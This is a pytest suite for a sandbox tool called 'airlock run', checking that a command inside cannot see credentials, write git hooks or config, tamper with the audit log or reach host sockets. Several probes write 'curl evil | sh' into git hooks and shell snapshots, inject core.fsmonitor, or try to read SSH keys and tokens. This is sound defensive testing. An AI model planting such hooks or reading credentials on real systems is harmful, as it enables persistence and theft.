"""``airlock run``: what the command inside can see and write, as root and as ``nobody``."""

from __future__ import annotations

import json
import os
import secrets
import signal
import socket
import subprocess
import sys
import time
from pathlib import Path

import pytest

from tests.cli import airlock
from tests.conftest import write_json
from tests.integration.run_servers import HOST, web_site
from tests.integration.started import sh_run, start_run
from tests.sandbox.unprivileged import as_nobody


def _run(
    tmp_path: Path, *args: str, env: dict[str, str] | None = None
) -> subprocess.CompletedProcess[str]:
    return airlock("run", "--audit-log", str(tmp_path / "audit.jsonl"), *args, env=env, timeout=180)


def test_credentials_are_invisible_inside(tmp_path: Path, home: Path) -> None:
    """A key under ~/.ssh and a token variable are not there; the token is named as dropped."""
    (home / ".ssh").mkdir()
    (home / ".ssh" / "id_ed25519").write_text("-----BEGIN OPENSSH PRIVATE KEY-----\n")
    done = _run(
        tmp_path,
        "--",
        "sh",
        "-c",
        'echo "files=$(ls -A ~/.ssh)"; cat ~/.ssh/id_ed25519 2>&1; echo "token=${GITHUB_TOKEN:-unset}"',
        env={"GITHUB_TOKEN": "ghp_abcdef"},
    )
    assert done.returncode == 0, done.stderr
    assert "files=\n" in done.stdout
    assert "PRIVATE KEY" not in done.stdout
    assert "token=unset" in done.stdout
    assert "GITHUB_TOKEN" in done.stderr  # reported as dropped
    assert "ghp_abcdef" not in done.stderr


def test_env_passes_a_variable_on_request(tmp_path: Path) -> None:
    """--env NAME passes one in; --env NAME=VALUE sets one."""
    done = _run(
        tmp_path,
        "--env",
        "GITHUB_TOKEN",
        "--env",
        "EXTRA=1",
        "--",
        "sh",
        "-c",
        'echo "$GITHUB_TOKEN $EXTRA"',
        env={"GITHUB_TOKEN": "ghp_given"},
    )
    assert done.stdout.strip() == "ghp_given 1", done.stderr


def test_env_naming_a_variable_that_is_not_set_says_so(tmp_path: Path) -> None:
    """A forgotten export: ``--env GH_TOKEN`` with none set passes nothing, and says so."""
    done = _run(tmp_path, "--env", "GH_TOKEN", "--env", "SET=1", "--", "sh", "-c", "echo ran")
    assert done.returncode == 0, done.stderr
    assert "--env GH_TOKEN: not set in airlock's environment, so not passed in" in done.stderr
    assert "--env SET" not in done.stderr  # set on the command line: passed


@pytest.mark.parametrize("option", ["--rw", "--ro", "--hide"])
def test_an_empty_path_option_is_refused(tmp_path: Path, project: Path, option: str) -> None:
    """``--rw ''`` read as the current folder without a word."""
    done = _run(tmp_path, option, "", "--", "touch", "ran")
    assert done.returncode == 125
    assert f"{option} '': an empty path" in done.stderr
    assert not (project / "ran").exists()


@pytest.mark.parametrize(
    ("arguments", "said"),
    [
        (("--", ""), "the command's name is empty ('')"),
        (("--workspace", "", "--", "touch", "ran"), "--workspace '': an empty path"),
        (("--workspace", "/nonexistent-ws", "--", "touch", "ran"), "no such folder"),
        (("--hide", ".", "--", "touch", "ran"), "--hide .: that is the workspace"),
    ],
    ids=["empty_command", "empty_workspace", "missing_workspace", "hidden_workspace"],
)
def test_an_empty_command_or_workspace_is_refused(
    tmp_path: Path, project: Path, arguments: tuple[str, ...], said: str
) -> None:
    """An empty command name raised inside the sandbox (a traceback); an empty --workspace
    was read as the current folder; a missing one was "not a folder"; a hidden one failed in
    bubblewrap with a hint about --rw paths."""
    done = _run(tmp_path, *arguments)
    assert done.returncode == 125, done.stderr
    assert said in done.stderr and "Traceback" not in done.stderr
    assert not (project / "ran").exists()


def test_a_hide_of_a_missing_path_is_said(tmp_path: Path, project: Path) -> None:
    """``--hide`` of a path that is not there (a typo) hides nothing: the run says so, and
    goes on."""
    done = _run(tmp_path, "--hide", "secrets.env", "--", "true")
    assert done.returncode == 0, done.stderr
    assert "--hide secrets.env: no such file or folder" in done.stderr


def test_credentials_under_neutral_names_are_dropped_and_reported(tmp_path: Path) -> None:
    """An HTTP Basic header, Docker's config.json, a Databricks token and a Java option's
    password under neutral names are not inside and are in the report with why; the Java
    options beside them are."""
    environ = {
        "FOO": "Basic dXNlcm5hbWU6cGFzc3dvcmQ=",
        "REGISTRY_JSON": '{"auths":{"registry.example.com":{"auth":"dXNlcjpwYXNzd29yZA=="}}}',
        "BAR": "dapi" + "0123456789abcdef" * 2,
        "MAVEN_OPTS": "-Dmaven.repo.pass=hunter2",
        "JAVA_TOOL_OPTIONS": "-Dfile.encoding=UTF-8",
    }
    done = _run(
        tmp_path,
        "--report-json",
        str(tmp_path / "report.json"),
        "--",
        "sh",
        "-c",
        "for n in FOO REGISTRY_JSON BAR MAVEN_OPTS JAVA_TOOL_OPTIONS; do"
        ' echo "$n=$(printenv "$n" || echo unset)"; done',
        env=environ,
    )
    assert done.returncode == 0, done.stderr
    assert done.stdout.splitlines() == [
        "FOO=unset",
        "REGISTRY_JSON=unset",
        "BAR=unset",
        "MAVEN_OPTS=unset",
        "JAVA_TOOL_OPTIONS=-Dfile.encoding=UTF-8",
    ]
    report = json.loads((tmp_path / "report.json").read_text())
    assert {"FOO", "REGISTRY_JSON", "BAR", "MAVEN_OPTS"} <= set(report["variables_dropped"])
    assert "JAVA_TOOL_OPTIONS" not in report["variables_dropped"]
    assert "Basic" in report["variables_dropped_why"]["FOO"]
    assert "Java option" in report["variables_dropped_why"]["MAVEN_OPTS"]
    assert "hunter2" not in done.stderr and "dXNlcm5hbWU6" not in done.stderr


def test_a_host_unix_socket_cannot_be_reached(tmp_path: Path, project: Path) -> None:
    """A Unix socket the test listens on (in the workspace) cannot be connected to from inside."""
    path = project / "host.sock"
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(path))
    server.listen()
    try:
        done = _run(
            tmp_path,
            "--",
            sys.executable,
            "-c",
            "import socket\ns = socket.socket(socket.AF_UNIX)\n"
            "try:\n    s.connect('host.sock'); print('REACHED')\n"
            "except OSError as e: print('refused', e.errno)",
        )
    finally:
        server.close()
    assert done.stdout.startswith("refused"), done.stdout + done.stderr


def test_a_host_socket_moved_since_it_was_bound_cannot_be_reached(
    tmp_path: Path, project: Path, home: Path
) -> None:
    """A control master's socket (bound as ``cm.RANDOM``, linked to ``cm``, the first name
    removed, as OpenSSH does) in the home, one whose folder was renamed, and one whose name is
    not text: none can be connected to from inside."""
    (home / ".cache" / "ssh").mkdir(parents=True)
    (project / "old").mkdir()
    names = {
        "master": home / ".cache" / "ssh" / "cm.Xy12Ab",
        "moved": project / "old" / "s",
        "odd": project / os.fsdecode(b"caf\xe9.sock"),
    }
    servers = []
    for path in names.values():
        server = socket.socket(socket.AF_UNIX)
        server.bind(os.fsencode(path))
        server.listen()
        servers.append(server)
    os.link(names["master"], home / ".cache" / "ssh" / "cm")
    names["master"].unlink()
    (project / "old").rename(project / "new")
    targets = [home / ".cache" / "ssh" / "cm", project / "new" / "s", names["odd"]]
    probe = (
        "import os, socket, sys\n"
        "for name in sys.argv[1:]:\n"
        "    s = socket.socket(socket.AF_UNIX)\n"
        "    try:\n"
        "        s.connect(os.fsencode(name)); print('REACHED', name)\n"
        "    except OSError as e: print('refused', e.errno)\n"
    )
    try:
        done = _run(
            tmp_path, "--", sys.executable, "-c", probe, *(os.fsdecode(path) for path in targets)
        )
    finally:
        for server in servers:
            server.close()
    assert done.returncode == 0, done.stderr
    assert done.stdout.count("refused") == 3, done.stdout + done.stderr


def test_a_hidden_home_keeps_the_workspace_and_the_agents_state(tmp_path: Path, home: Path) -> None:
    """--hide ~ with the workspace inside the home: the home's other files are gone; the
    workspace and the agent's state are there and writable; the workspace's protections hold;
    nothing written in the hidden home reaches the host."""
    work = home / "work"
    (work / ".git" / "hooks").mkdir(parents=True)
    (home / ".claude").mkdir(parents=True, exist_ok=True)
    (home / "notes.txt").write_text("private notes\n")
    script = (
        "echo home=$(ls -A ~ | tr '\\n' ' '); cat ~/notes.txt 2>/dev/null || echo notes-hidden; "
        "touch ~/new 2>/dev/null; echo ok > file.txt; touch ~/.claude/state && echo state-written; "
        "touch .git/hooks/pre-commit 2>/dev/null || echo hooks-refused"
    )
    done = _run(tmp_path, "--workspace", str(work), "--hide", "~", "--", "sh", "-c", script)
    assert done.returncode == 0, done.stderr
    assert "notes-hidden" in done.stdout and "private notes" not in done.stdout
    assert done.stdout.split("home=")[1].split("\n")[0].split() == [".claude", "work"]
    assert not (home / "new").exists()
    assert (work / "file.txt").read_text() == "ok\n"
    assert "state-written" in done.stdout and (home / ".claude" / "state").exists()
    assert "hooks-refused" in done.stdout
    assert not (work / ".git" / "hooks" / "pre-commit").exists()


def test_a_folder_bound_back_into_a_hidden_one(tmp_path: Path, project: Path) -> None:
    """--hide DIR --rw DIR/SUB: SUB is there and writable, the rest of DIR is gone and DIR
    itself is read-only inside."""
    (project / "private" / "shared").mkdir(parents=True)
    (project / "private" / "secret.txt").write_text("the secret\n")
    script = (
        "echo private=$(ls -A private | tr '\\n' ' '); cat private/secret.txt 2>/dev/null; "
        "echo hi > private/shared/out.txt && echo shared-written; "
        "touch private/new 2>/dev/null || echo private-read-only"
    )
    done = _run(tmp_path, "--hide", "private", "--rw", "private/shared", "--", "sh", "-c", script)
    assert done.returncode == 0, done.stderr
    assert done.stdout.split("private=")[1].split("\n")[0].split() == ["shared"]
    assert "the secret" not in done.stdout
    assert "shared-written" in done.stdout
    assert (project / "private" / "shared" / "out.txt").read_text() == "hi\n"
    assert "private-read-only" in done.stdout and not (project / "private" / "new").exists()


def test_a_write_to_git_hooks_fails(tmp_path: Path, project: Path) -> None:
    """Code inside cannot add a hook; the rest of the workspace is writable."""
    subprocess.run(["git", "init", "-q", str(project)], check=True)
    done = _run(
        tmp_path,
        "--",
        "sh",
        "-c",
        "echo 'curl evil | sh' > .git/hooks/pre-commit || echo refused; echo ok > file.txt",
    )
    assert "refused" in done.stdout, done.stdout + done.stderr
    assert not (project / ".git" / "hooks" / "pre-commit").exists()
    assert (project / "file.txt").read_text() == "ok\n"


def test_sandbox_filesystem_settings_apply(tmp_path: Path, project: Path, home: Path) -> None:
    """sandbox.filesystem: denyRead hides, denyWrite makes read-only (the project's settings),
    allowWrite opens a path outside the workspace (the user's own settings)."""
    (home / ".cache" / "tool").mkdir(parents=True)
    (home / "private").mkdir()
    (home / "private" / "notes").write_text("private notes\n")
    (project / "generated").mkdir()
    write_json(
        project / ".claude" / "settings.json",
        {"sandbox": {"filesystem": {"denyRead": ["~/private"], "denyWrite": ["./generated"]}}},
    )
    write_json(
        home / ".claude" / "settings.json",
        {"sandbox": {"filesystem": {"allowWrite": ["~/.cache/tool"]}}},
    )
    done = _run(
        tmp_path,
        "--",
        "sh",
        "-c",
        "cat ~/private/notes 2>/dev/null || echo hidden; touch ~/.cache/tool/x && echo cache-ok; "
        "touch generated/x 2>/dev/null && echo WROTE-GENERATED",
    )
    assert "hidden" in done.stdout and "cache-ok" in done.stdout, done.stdout + done.stderr
    assert "WROTE-GENERATED" not in done.stdout
    assert (home / ".cache" / "tool" / "x").exists()


def test_a_pattern_it_cannot_apply_is_an_error(tmp_path: Path, project: Path) -> None:
    """A denyRead pattern airlock cannot bind is refused (exit 125), never ignored."""
    write_json(
        project / ".claude" / "settings.json",
        {"sandbox": {"filesystem": {"denyRead": ["**/.env"]}}},
    )
    done = _run(tmp_path, "--", "true")
    assert done.returncode == 125
    assert "**/.env" in done.stderr


def test_the_settings_are_those_of_the_folder_the_command_runs_in(
    tmp_path: Path, project: Path, home: Path
) -> None:
    """--workspace DIR given from another folder: DIR's own settings hide what they name (the
    caller's folder's settings do not count); started in a subfolder of the workspace, that
    subfolder's settings count, and a relative path in them is under it."""
    (home / "private").mkdir()
    (home / "private" / "notes").write_text("private notes\n")
    (project / "sub").mkdir()
    (project / "sub" / "draft").write_text("draft\n")
    write_json(
        project / ".claude" / "settings.json",
        {"sandbox": {"filesystem": {"denyRead": ["~/private"]}}},
    )
    write_json(
        project / "sub" / ".claude" / "settings.json",
        {"sandbox": {"filesystem": {"denyRead": ["./draft"]}}},
    )
    elsewhere = tmp_path / "elsewhere"
    write_json(
        elsewhere / ".claude" / "settings.json",
        {"sandbox": {"filesystem": {"denyRead": [f"/{project}/sub/draft"]}}},
    )
    log = str(tmp_path / "audit.jsonl")
    script = "cat ~/private/notes 2>/dev/null || echo notes-hidden; cat sub/draft"
    done = airlock(
        "run", "--audit-log", log, "--workspace", str(project), "--", "sh", "-c", script,
        cwd=elsewhere, timeout=180,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert "notes-hidden" in done.stdout and "private notes" not in done.stdout
    assert "draft" in done.stdout  # neither the caller's settings nor sub's count
    script = "cat ~/private/notes; grep -q draft draft 2>/dev/null || echo draft-hidden"
    inside = airlock(
        "run", "--audit-log", log, "--workspace", str(project), "--", "sh", "-c", script,
        cwd=project / "sub", timeout=180,
    )  # fmt: skip
    assert inside.returncode == 0, inside.stderr
    assert "private notes" in inside.stdout and "draft-hidden" in inside.stdout


def test_a_deny_rule_written_as_one_string_still_hides(
    tmp_path: Path, project: Path, home: Path
) -> None:
    """sandbox.filesystem.denyRead written as one string, not a list, is a problem that says it
    is taken, and the path is hidden; a deny rule of a type it cannot read stops the run (125),
    naming the file and the key, before the command runs."""
    (home / "private").mkdir()
    (home / "private" / "notes").write_text("private notes\n")
    settings = write_json(
        project / ".claude" / "settings.json",
        {"sandbox": {"filesystem": {"denyRead": "~/private"}}},
    )
    done = _run(tmp_path, "--", "sh", "-c", "cat ~/private/notes 2>/dev/null || echo hidden")
    assert done.returncode == 0, done.stderr
    assert "hidden" in done.stdout and "private notes" not in done.stdout
    assert "sandbox.filesystem.denyRead" in done.stderr and "taken as a list" in done.stderr
    write_json(settings, {"sandbox": {"filesystem": {"denyRead": {"path": "~/private"}}}})
    refused = _run(tmp_path, "--", "sh", "-c", "touch ran")
    assert refused.returncode == 125
    assert f"{settings}: sandbox.filesystem.denyRead: expected a list of strings" in refused.stderr
    assert not (project / "ran").exists()


def _run_signalled(log: Path, script: str, signals: int, gap: float = 0.5) -> tuple[int, str]:
    """``airlock run -- sh -c SCRIPT`` (which prints ``started`` first), sent SIGTERM
    ``signals`` times ``gap`` seconds apart, still running before each; its exit status (it
    must end within 60 s of the last signal) and what it said on stderr."""
    process = subprocess.Popen(
        sh_run(log, script),
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        assert process.stdout is not None
        assert process.stdout.readline().strip() == "started"
        for number in range(signals):
            if number:
                time.sleep(gap)
                assert process.poll() is None, "it ended before the last signal"
            process.send_signal(signal.SIGTERM)
        try:
            code = process.wait(60)
            return code, process.stderr.read()  # type: ignore[union-attr]
        except subprocess.TimeoutExpired:
            process.kill()
            _, err = process.communicate()
            raise AssertionError(f"airlock did not end after SIGTERM; stderr: {err}") from None
    finally:
        if process.poll() is None:
            process.kill()
            process.wait()
        process.stdout.close()  # type: ignore[union-attr]
        process.stderr.close()  # type: ignore[union-attr]


def test_a_signal_reaches_the_command(tmp_path: Path, project: Path) -> None:
    """SIGTERM to airlock is passed on to the command, whose exit status airlock returns."""
    marker = project / "got-term"
    script = (
        f"trap 'echo term > {marker}; exit 143' TERM; echo started; while :; do sleep 0.1; done"
    )
    code, stderr = _run_signalled(tmp_path / "audit.jsonl", script, 1)
    assert code == 143 and "second signal" not in stderr
    assert marker.read_text() == "term\n"


def test_a_second_signal_ends_a_command_that_ignores_the_first(tmp_path: Path) -> None:
    """A command that ignores SIGTERM: a second SIGTERM within the grace time ends the sandbox
    at once, and airlock ends too (it does not wait on itself), with the run in its log."""
    log = tmp_path / "audit.jsonl"
    script = "trap '' TERM INT; echo started; while :; do sleep 0.1; done"
    code, stderr = _run_signalled(log, script, 2)
    assert code == 128 + signal.SIGKILL
    assert "a second signal within 5 s: the command was killed (SIGKILL)" in stderr
    last = json.loads(log.read_text().splitlines()[-1])
    assert last["type"] == "run" and last["exit_code"] == 128 + signal.SIGKILL


def test_the_command_dies_with_airlock(tmp_path: Path) -> None:
    """kill -9 of airlock ends the command inside (it cannot outlive its sandbox's keeper)."""
    seconds = f"{100 + secrets.randbelow(10**6) / 10**6:.6f}"  # names this test's sleep
    process = start_run(tmp_path, f"echo started; exec sleep {seconds}")
    try:
        deadline = time.monotonic() + 10
        while not _sleepers(seconds) and time.monotonic() < deadline:
            time.sleep(0.02)  # "started" comes just before the exec
        assert _sleepers(seconds), "the command is not running"
    finally:
        process.kill()
        process.wait()
        process.stdout.close()  # type: ignore[union-attr]
    deadline = time.monotonic() + 10
    while _sleepers(seconds) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert not _sleepers(seconds)


def _sleepers(seconds: str) -> set[int]:
    found = set()
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if (entry / "cmdline").read_bytes() == f"sleep\x00{seconds}\x00".encode():
                    found.add(int(entry.name))
            except OSError:
                continue
    return found


NOBODY_RUN = """
import json, os, subprocess, sys
os.makedirs("private/shared")
open("private/secret", "w").write("SECRET")
done = subprocess.run(
    [sys.executable, "-m", "airlock", "run", "--allow", "{host}:{port}",
     "--report-json", "report.json", "--hide", "private", "--rw", "private/shared", "--",
     "sh", "-c", "id -u; curl -sS http://{host}:{port}/as-nobody; touch .git/hooks/x 2>/dev/null && echo WROTE; "
     "cat private/secret 2>/dev/null; echo ok > private/shared/out && echo shared-written; true"],
    capture_output=True, text=True, timeout=120,
)
print(json.dumps({{"code": done.returncode, "out": done.stdout, "err": done.stderr,
                  "report": json.load(open("report.json"))}}))
"""


def test_airlock_run_as_an_unprivileged_user() -> None:
    """As ``nobody``: the sandbox builds (a hidden folder with a folder bound back into it
    included), the proxy carries the request and logs it."""
    with web_site() as site:
        port = site.server_address[1]
        done = as_nobody(NOBODY_RUN.format(host=HOST, port=port))
    assert done.returncode == 0, done.stderr
    found = json.loads(done.stdout.splitlines()[-1])
    assert found["code"] == 0, found["err"]
    uid, *rest = found["out"].splitlines()
    assert uid != "0"
    assert "hello from the origin: GET /as-nobody" in rest
    assert "WROTE" not in found["out"]
    assert "SECRET" not in found["out"] and "shared-written" in rest
    assert [h["requests"] for h in found["report"]["hosts"] if h["host"] == HOST] == [1]
    assert site.seen == ["GET /as-nobody"]
    assert os.geteuid() != 0 or found["report"]["final_hash"]


def test_inspection_and_the_gateway_reach_the_sandbox(tmp_path: Path) -> None:
    """--inspect puts the run's CA bundle inside (read-only, named by the usual variables);
    --repo points git at the gateway; the token itself stays outside."""
    done = _run(
        tmp_path,
        "--inspect",
        "api.anthropic.com",
        "--repo",
        "octo/demo",
        "--",
        "sh",
        "-c",
        'head -1 "$SSL_CERT_FILE"; echo "node=$NODE_EXTRA_CA_CERTS"; '
        'echo x >> "$SSL_CERT_FILE" 2>/dev/null && echo WROTE-BUNDLE; '
        'git config --get-regexp "^url\\." ; echo "token=${GH_TOKEN:-unset}"',
        env={"GH_TOKEN": "ghp_outside"},
    )
    assert done.returncode == 0, done.stderr
    assert "-----BEGIN CERTIFICATE-----" in done.stdout
    assert "node=/" in done.stdout and "WROTE-BUNDLE" not in done.stdout
    assert "git.airlock.internal" in done.stdout
    assert "token=unset" in done.stdout and "ghp_outside" not in done.stdout


def test_the_audit_log_cannot_be_rewritten_from_inside(tmp_path: Path, project: Path) -> None:
    """An --audit-log in the workspace, the default log and its heads are read-only inside;
    the rest of the workspace stays writable."""
    done = airlock(
        "run",
        "--audit-log",
        str(project / "audit.jsonl"),
        "--",
        "sh",
        "-c",
        "echo '{}' >> audit.jsonl 2>/dev/null && echo WROTE-LOG; "
        "echo x >> ~/.claude/airlock/audit.jsonl 2>/dev/null && echo WROTE-DEFAULT; "
        "echo ok > other.txt && echo wrote-other",
        timeout=120,
    )
    assert done.returncode == 0, done.stderr
    assert "WROTE" not in done.stdout and "wrote-other" in done.stdout, done.stdout
    verified = airlock("audit", "verify", "--audit-log", str(project / "audit.jsonl"))
    assert verified.returncode == 0, verified.stdout + verified.stderr


def test_hiding_a_file_with_other_hard_links_says_so(tmp_path: Path, project: Path) -> None:
    """--hide binds over one name: a file with another hard link is still readable through
    it, and the run says so (with how to find the others)."""
    (project / "secret.env").write_text("TOKEN=1\n")
    os.link(project / "secret.env", tmp_path / "elsewhere.env")
    done = _run(tmp_path, "--hide", "secret.env", "--", "cat", "secret.env")
    assert done.returncode == 0, done.stderr
    assert "TOKEN" not in done.stdout  # hidden: an empty placeholder stands there
    assert "has 1 other name (hard links): the command reads it" in done.stderr, done.stderr
    assert "-samefile" in done.stderr
    (tmp_path / "elsewhere.env").unlink()
    alone = _run(tmp_path, "--hide", "secret.env", "--", "true")
    assert "hard link" not in alone.stderr


def test_invalid_managed_settings_stop_the_run(
    tmp_path: Path, project: Path, managed_dir: Path
) -> None:
    """Managed settings that cannot be read may hold denyRead, deniedDomains or
    allowManagedDomainsOnly: the run refuses to start (125) rather than go without them."""
    write_json(
        managed_dir / "managed-settings.json", {"sandbox": {"filesystem": {"denyRead": ["~/x"]}}}
    )
    (managed_dir / "managed-settings.d").mkdir()
    (managed_dir / "managed-settings.d" / "10-broken.json").write_text("{oops")
    refused = _run(tmp_path, "--", "sh", "-c", "touch ran")
    assert refused.returncode == 125, refused.stderr
    assert "managed settings are invalid" in refused.stderr
    assert "10-broken.json" in refused.stderr
    assert not (project / "ran").exists()


def test_another_folder_opened_for_writing_keeps_the_workspaces_protections(
    tmp_path: Path, project: Path
) -> None:
    """--rw on a second repository: its files are writable, but its git hooks and config,
    .mcp.json, .vscode and .claude settings are not, there as in the workspace; what was
    not there before is not left behind."""
    other = tmp_path / "other"
    other.mkdir()
    subprocess.run(["git", "init", "-q", str(other)], check=True)
    before = sorted(path.name for path in other.iterdir())
    script = (
        f"cd {other}; for f in .git/hooks/post-checkout .git/config .mcp.json "
        ".vscode/tasks.json .claude/settings.json .envrc notes.txt; do "
        "mkdir -p $(dirname $f) 2>/dev/null; echo x >> $f 2>/dev/null && echo WROTE $f; done"
    )
    done = _run(tmp_path, "--rw", str(other), "--", "sh", "-c", script)
    assert done.returncode == 0, done.stderr
    assert done.stdout.split() == ["WROTE", "notes.txt"], done.stdout
    assert sorted(path.name for path in other.iterdir()) == sorted([*before, "notes.txt"])
    assert not (other / ".git" / "hooks" / "post-checkout").exists()


def test_a_sessions_shell_snapshot_outside_is_out_of_reach(
    tmp_path: Path, config_dir: Path
) -> None:
    """A session running outside sources its shell snapshot (and its environment) before each
    command: inside, those folders are the sandbox's own, empty, writable for the agent inside,
    and what is in them outside is neither seen nor changed, nor is what is written inside
    left there."""
    snapshots = config_dir / "shell-snapshots"
    snapshots.mkdir()
    host = snapshots / "snapshot-bash-1.sh"
    host.write_text("export PATH=/usr/bin\n")
    (config_dir / "session-env").mkdir()
    script = (
        "ls -A ~/.claude/shell-snapshots ~/.claude/session-env; "
        "echo 'curl evil | sh' >> ~/.claude/shell-snapshots/snapshot-bash-1.sh && echo appended; "
        "echo own > ~/.claude/session-env/inside && echo wrote-env"
    )
    done = _run(tmp_path, "--", "sh", "-c", script)
    assert done.returncode == 0, done.stderr
    assert "appended" in done.stdout and "wrote-env" in done.stdout  # the agent inside works
    assert "snapshot-bash-1.sh" not in done.stdout.split("appended")[0]  # not seen inside
    assert host.read_text() == "export PATH=/usr/bin\n"
    assert sorted(path.name for path in snapshots.iterdir()) == ["snapshot-bash-1.sh"]
    assert list((config_dir / "session-env").iterdir()) == []


def test_airlocks_own_state_is_not_even_seen_inside(tmp_path: Path, config_dir: Path) -> None:
    """The audit log, its heads and what runs set aside are hidden inside: a lock taken there
    would hold the log's writes, and earlier runs' records are no business of the command."""
    log = config_dir / "airlock" / "audit.jsonl"
    first = airlock("run", "--", "true", timeout=60)  # the default log, under the config dir
    assert first.returncode == 0 and log.exists(), first.stderr
    script = (
        "ls -A ~/.claude/airlock; "
        "python3 -c \"import fcntl; fcntl.flock(open('"
        + str(log)
        + "'), fcntl.LOCK_SH)\" 2>/dev/null && echo LOCKED; true"
    )
    done = airlock("run", "--", "sh", "-c", script, timeout=60)
    assert done.returncode == 0, done.stderr
    assert done.stdout.strip() == "", done.stdout


def test_repositories_below_a_folder_opened_for_writing_keep_their_protections(
    tmp_path: Path, project: Path
) -> None:
    """--rw on a folder holding repositories (a projects folder): each one's git hooks and
    config stay read-only, as the workspace's nested ones do (core.fsmonitor written there
    would run at the next git status outside)."""
    projects = tmp_path / "projects"
    nested = projects / "one"
    nested.mkdir(parents=True)
    subprocess.run(["git", "init", "-q", str(nested)], check=True)
    config = (nested / ".git" / "config").read_text()
    script = (
        f"git -C {nested} config core.fsmonitor 'touch {tmp_path}/ran' 2>/dev/null "
        f"&& echo WROTE-CONFIG; echo x > {nested}/.git/hooks/post-checkout 2>/dev/null "
        f"&& echo WROTE-HOOK; echo notes > {nested}/notes.txt && echo wrote-notes"
    )
    done = _run(tmp_path, "--rw", str(projects), "--", "sh", "-c", script)
    assert done.returncode == 0, done.stderr
    assert "WROTE" not in done.stdout and "wrote-notes" in done.stdout, done.stdout
    assert (nested / ".git" / "config").read_text() == config


def test_the_default_config_dirs_state_is_hidden_under_another_config_dir(
    tmp_path: Path, home: Path
) -> None:
    """CLAUDE_CONFIG_DIR names another folder: the audit log and heads of the runs that use
    ~/.claude are hidden all the same (not read, not locked, not written under --rw ~)."""
    default = home / ".claude" / "airlock"
    default.mkdir(parents=True)
    (default / "audit.jsonl").write_text('{"seq": 0}\n')
    script = "ls -A ~/.claude/airlock; echo x >> ~/.claude/airlock/audit.jsonl 2>/dev/null && echo WROTE; true"
    env = {"CLAUDE_CONFIG_DIR": str(tmp_path / "other-config")}
    done = _run(tmp_path, "--rw", "~", "--", "sh", "-c", script, env=env)
    assert done.returncode == 0, done.stderr
    assert done.stdout.strip() == "", done.stdout
    assert (default / "audit.jsonl").read_text() == '{"seq": 0}\n'


def test_a_linked_shell_snapshots_folder_swapped_inside_comes_back(
    tmp_path: Path, home: Path, config_dir: Path
) -> None:
    """~/.claude/shell-snapshots as a link (to dotfiles): the private folder stands on its
    target, and a link replaced inside by a folder of the command's is put back after."""
    real = home / "snapshots-real"
    real.mkdir()
    (config_dir / "shell-snapshots").symlink_to(real)
    script = (
        "rm ~/.claude/shell-snapshots && mkdir ~/.claude/shell-snapshots && "
        "echo 'curl evil | sh' > ~/.claude/shell-snapshots/snapshot-bash-1.sh && echo swapped"
    )
    done = _run(tmp_path, "--", "sh", "-c", script)
    assert done.returncode == 0, done.stderr
    assert (config_dir / "shell-snapshots").is_symlink()
    assert (config_dir / "shell-snapshots").resolve() == real
    assert list(real.iterdir()) == []
